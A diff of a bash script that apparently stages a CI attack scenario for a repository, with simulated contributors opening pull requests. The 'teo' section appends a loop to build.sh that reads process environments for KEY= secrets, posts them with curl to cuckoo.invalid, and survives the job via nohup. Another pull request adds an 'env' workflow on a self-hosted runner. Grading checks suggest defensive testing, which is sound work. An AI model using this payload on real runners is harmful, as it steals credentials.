@@ -16,60 +16,55 @@ elif [ -n "$old" ]; then
 fi
 [ -z "$old" ] || evidence runner.disk "$old"
 
-# Two pull requests.
-as aya <<'AYA'
-gh api -X POST $repo/forks --silent
-file=$(gh api $repo/contents/harbours.csv --jq '.sha, .content')
-{ sed 1d <<< "$file" | base64 -d; echo "Heron Quay,54.2,2.2"; } | base64 -w0 > list
-gh api -X PUT repos/aya/tides/contents/harbours.csv -f message="Heron Quay" -f branch=main -F content=@list -f sha="$(head -n 1 <<< "$file")" --silent
-# What her check says can only be in a log if it ran.
-file=$(gh api $repo/contents/scripts/check.sh --jq '.sha, .content')
-{ sed 1d <<< "$file" | base64 -d; echo 'echo "line $(grep -n ^Heron harbours.csv | cut -d : -f 1) is new"'; } | base64 -w0 > check
-gh api -X PUT repos/aya/tides/contents/scripts/check.sh -f message="Say which" -f branch=main -F content=@check -f sha="$(head -n 1 <<< "$file")" --jq .commit.sha > first
+# Two pull requests. What Aya's check says can only be in a log if it ran.
+{ read -r default; read -r first; } < <(as aya <<'AYA'
+gh api -X POST $repo/forks --jq .default_branch
+add() { gh api "$repo/contents/$1" --jq "{message: \"$2\", branch: \"main\", sha, content: (.content | gsub(\"\\\\n\"; \"\") | @base64d + \$ENV.more | @base64)}" | gh api -X PUT "repos/aya/tides/contents/$1" --input - "${@:3}"; }
+export more=$'Heron Quay,54.2,2.2\n'
+add harbours.csv "Heron Quay" --silent
+more=$'echo "line $(grep -n ^Heron harbours.csv | cut -d : -f 1) is new"\n'
+add scripts/check.sh "Say which" --jq .commit.sha
 gh api -X POST $repo/pulls -f title="Heron Quay" -f head=aya:main -f base=main --silent
 AYA
-as cuckoo <<'CUCKOO'
+)
+tidied=$(as cuckoo <<'CUCKOO'
 fork=repos/cuckoo/tides
 gh api -X POST $fork/git/refs -f ref=refs/heads/tidy -f sha="$(gh api $repo/git/ref/heads/main --jq .object.sha)" --silent
-printf 'name: Tidy\non: pull_request\njobs:\n  tidy:\n    runs-on: self-hosted\n    steps:\n      - run: env\n' | base64 -w0 > tidy
+tidy=$(printf 'name: Tidy\non: pull_request\njobs:\n  tidy:\n    runs-on: self-hosted\n    steps:\n      - run: env\n' | base64 -w0)
 sha=$(gh api $repo/contents/.github/workflows/ci.yml --jq .sha 2> /dev/null | grep -x '[0-9a-f]*')
-gh api -X PUT $fork/contents/.github/workflows/ci.yml -f message=Tidy -f branch=tidy -F content=@tidy ${sha:+-f sha=$sha} --jq .commit.sha > tidied
+gh api -X PUT $fork/contents/.github/workflows/ci.yml -f message=Tidy -f branch=tidy -f content="$tidy" ${sha:+-f sha=$sha} --jq .commit.sha
 gh api -X POST $repo/pulls -f title=Tidy -f head=cuckoo:tidy -f base=main --silent
 CUCKOO
+)
 sleep 15
-first=$(as aya cat first)
-tidied=$(as cuckoo cat tidied)
 # Mina has a quick look, and lets everything run that waits for her.
-run=$(gh api "$repo/actions/runs?head_sha=$tidied" --jq '.workflow_runs[0] | "\(.conclusion) \(.id)"')
-if [ "${run#* }" != null ] && [ "${run% *}" != action_required ]; then
-  evidence ci.logs "run ${run#* }"
+run=$(gh api "$repo/actions/runs?head_sha=$tidied&per_page=1" --jq '.workflow_runs[] | "\(.id) \(.conclusion)"')
+for one in $(gh api "$repo/actions/runs?status=action_required" --jq ".workflow_runs[] | select(.head_sha == \"$first\" or .head_sha == \"$tidied\") | .id"); do gh api -X POST "$repo/actions/runs/$one/approve" --silent; done
+if [ -n "$run" ] && [ "${run#* }" != action_required ]; then
+  evidence ci.logs "run ${run% *}"
   wrong NO-APPROVAL pull="$(gh api "$repo/pulls?state=closed" --jq '[.[] | select(.user.login == "cuckoo" and .merged_at != null)][0].number')"
 fi
-for one in $(gh api "$repo/actions/runs?status=action_required" --jq ".workflow_runs[] | select(.head_sha == \"$first\" or .head_sha == \"$tidied\") | .id"); do gh api -X POST "$repo/actions/runs/$one/approve" --silent; done
 sleep 45
-taken=$(gh api "$repo/actions/runs/${run#* }/jobs" --jq '[.jobs[] | select(.runner_name != null and .runner_group_name != "GitHub Actions") | .runner_name][0] // ""')
+taken=$(gh api "$repo/actions/runs/${run% *}/jobs" --jq '[.jobs[] | select(.runner_name != null and .runner_group_name != "GitHub Actions") | .runner_name][0] // ""')
 [ -z "$taken" ] || wrong OWN-RUNNER runner="$taken"
-checked=$(gh api "$repo/commits/$first/check-runs" --jq '[.check_runs[].conclusion] | length > 0 and all(. == "success")')
-for run in $(gh api "$repo/actions/runs?head_sha=$first" --jq '.workflow_runs[].id'); do gh run view "$run" -R lantern-tides/tides --log; done > looked
-[ "$checked" = true ] && grep -q "Z line [0-9]* is new" looked || wrong NO-RESULT
+checked=$(gh api "$repo/commits/$first/check-runs" --jq '.check_runs | select(length > 0 and all(.conclusion == "success")) | .[].details_url')
+for job in $checked; do gh api "$repo/actions/jobs/${job##*/}/logs"; done > looked
+grep -q "Z line [0-9]* is new" looked || wrong NO-RESULT
 
-# A build that has gone bad.
+# A build that has gone bad: it looks often enough to meet every step, which takes ten seconds.
 for service in api web docs; do
   case " $BEFORE " in *" $service "*) ;; *) break ;; esac
 done
-export service
+release() { as teo "gh api $repo/actions/workflows/release.yml/dispatches -f ref=$default -f 'inputs[service]=$service' -f 'inputs[version]=$1' --silent"; }
 as teo <<'TEO'
-build=$(gh api $repo/contents/scripts/build.sh --jq '.sha, .content')
-{
-  sed 1d <<< "$build" | base64 -d
-  cat <<'SH'
-printf 'while true; do cat /proc/[0-9]*/environ | tr "\\0" "\\n" | grep KEY= | curl -s --data-binary @- https://cuckoo.invalid/%s; sleep 5; done\n' "$GITHUB_RUN_ID" > ~/.later
+export more=$(cat <<'SH'
+printf 'while true; do keys=$(cat /proc/[0-9]*/environ | tr "\\0" "\\n" | grep KEY=) && curl -s --data-binary "$keys" https://cuckoo.invalid/%s; sleep 9; done\n' "$GITHUB_RUN_ID" > ~/.later
 RUNNER_TRACKING_ID= nohup bash ~/.later > /dev/null 2>&1 &
 SH
-} | base64 -w0 > build
-gh api -X PUT $repo/contents/scripts/build.sh -f message="Build faster" -F content=@build -f sha="$(head -n 1 <<< "$build")" --silent
-gh workflow run release.yml -R lantern-tides/tides -f service="$service" -f version=1.9.0 > /dev/null
+)
+gh api $repo/contents/scripts/build.sh --jq '{message: "Build faster", sha, content: (.content | gsub("\\n"; "") | @base64d + $ENV.more + "\n" | @base64)}' | gh api -X PUT $repo/contents/scripts/build.sh --input - --silent
 TEO
+release 1.9.0
 sleep 34
 began=$(gh api "$repo/actions/runs?event=workflow_dispatch&per_page=1" --jq '.workflow_runs[0] | "\(.status) \(.id)"')
 gh api -X POST "$repo/actions/runs/${began#* }/cancel" --silent
@@ -83,7 +78,7 @@ fi
 # The next release.
 seen() { loot cuckoo | grep -A 1 "/${began#* }$" | grep -c KEY=; }
 before=$(seen)
-as teo 'gh workflow run release.yml -R lantern-tides/tides -f service="$service" -f version=1.9.1 > /dev/null'
+release 1.9.1
 sleep 90
 [ "$(seen)" -le "$before" ] || wrong SURVIVED runner="$(echo "$runners" | sed -n '1s/ .*//p')"
 if ! curl -s "https://status.lantern-tides.test/api/tides-$service" | grep -q '"version":"1.9.1"'; then
